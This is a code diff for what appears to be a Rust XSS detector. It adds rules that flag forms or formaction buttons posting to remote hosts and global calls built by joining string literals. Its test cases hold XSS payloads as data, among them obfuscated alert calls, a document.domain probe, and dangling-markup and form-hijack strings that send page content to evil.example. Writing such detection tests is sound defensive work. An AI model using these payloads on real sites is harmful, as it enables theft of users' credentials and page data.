@@ -497,6 +497,10 @@ fn attributes<'b>(
         let hijack = matches!(name, b"datasrc" | b"dataformatas" | b"datafld")
             || (tag == b"meta" && meta_hijack(name, value, in_head))
             || (tag == b"base" && name == b"href")
+            // A form sent to another host: what the page's user types (a password, a token
+            // the page fills in) goes there.
+            || ((name == b"formaction" || (tag == b"form" && name == b"action"))
+                && remote_url(value))
             // A stylesheet or script pulled in by `<link>` (feeds' `<link rel=alternate>` pass).
             || (tag == b"link"
                 && ((name == b"rel"
@@ -1233,24 +1237,37 @@ fn aliased(b: &[u8], ws: usize, we: usize) -> bool {
 }
 
 /// A global's member computed by an expression and called: `window[atob('YWxlcnQ=')](1)`,
-/// `self[Object.keys(self)[5]](1)`, `top[/al/.source+/ert/.source]\`1\``.
+/// `self[Object.keys(self)[5]](1)`, `top[/al/.source+/ert/.source]\`1\``,
+/// `this['ale'+'rt'](1)` (`this` is the global object outside a function).
 fn global_computed_call(b: &[u8]) -> Option<Hit> {
     for open in memchr::memchr_iter(b'[', b) {
         let (ws, we) = word_before(b, open);
-        if !GLOBALS.contains(&&b[ws..we]) || (ws > 0 && is_word(b[ws - 1])) {
+        let global = GLOBALS.contains(&&b[ws..we]) || &b[ws..we] == b"this";
+        if !global || (ws > 0 && is_word(b[ws - 1])) {
             continue;
         }
         let Some(close) = group_end(b, open) else {
             continue;
         };
         let inner = &b[open + 1..close];
-        // A name made by a call or from a regular expression's source, not a variable.
-        let computed = inner.iter().any(|c| matches!(c, b'(' | b'/'));
+        // A name made by a call, from a regular expression's source or by joining string
+        // literals, not a variable.
+        let computed = inner.iter().any(|c| matches!(c, b'(' | b'/')) || joins_literals(inner);
         if computed && called_at(b, close + 1) {
             return Some(Hit::new("xss.dom_sink", ws, close + 1));
         }
     }
     None
+}
+
+/// Whether `e` joins string literals: a closing quote, `+`, an opening quote (`'ale'+'rt'`).
+fn joins_literals(e: &[u8]) -> bool {
+    memchr::memchr_iter(b'+', e).any(|p| {
+        let before = e[..p].trim_ascii_end();
+        let after = e[p + 1..].trim_ascii_start();
+        let quote = |c: Option<&u8>| matches!(c, Some(b'"' | b'\'' | b'`'));
+        quote(before.last()) && quote(after.first())
+    })
 }
 
 /// The index of what closes the group opened at `open` (`(`, `[` or a template's backtick,
@@ -1586,6 +1603,8 @@ mod tests {
             "window[atob('YWxlcnQ=')](1)",
             "self[Object.keys(self)[5]](1)",
             "this['alert'](1)",
+            "';this['ale'+'rt'](this['doc'+'ument']['dom'+'ain']);//",
+            "top[\"con\" + \"firm\"](1)",
             // Break-outs through templates, comments, operators and keywords.
             "${alert(1)}",
             "*/alert(1)/*",
@@ -1685,6 +1704,8 @@ mod tests {
             ("<img src='https://evil.example/log?html=", "xss.dangling_markup"),
             ("\"><img src='//evil.example/?c=", "xss.dangling_markup"),
             ("<table background=\"http://evil.example/?", "xss.dangling_markup"),
+            ("<form><button formaction=//evil>XSS</button>", "xss.dangerous_tag"),
+            ("<form id=x action=https://evil.example/s target='", "xss.dangerous_tag"),
             ("<a id=x><a id=x name=y href=//evil.example>", "xss.dom_clobbering"),
             (
                 "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
@@ -1699,6 +1720,8 @@ mod tests {
             "<h2 id=\"a\">A</h2><h2 id=\"b\">B</h2>",
             "<img name=\"logo\" src=\"/logo.png\">",
             "<button ng-click=\"save\">",
+            "<form action=\"/search\" method=\"get\"><input name=q></form>",
+            "this[key](value); this['name'] + 'x'",
             "JavaScript: The Good Parts (book)",
             "See window.open() docs",
         ] {
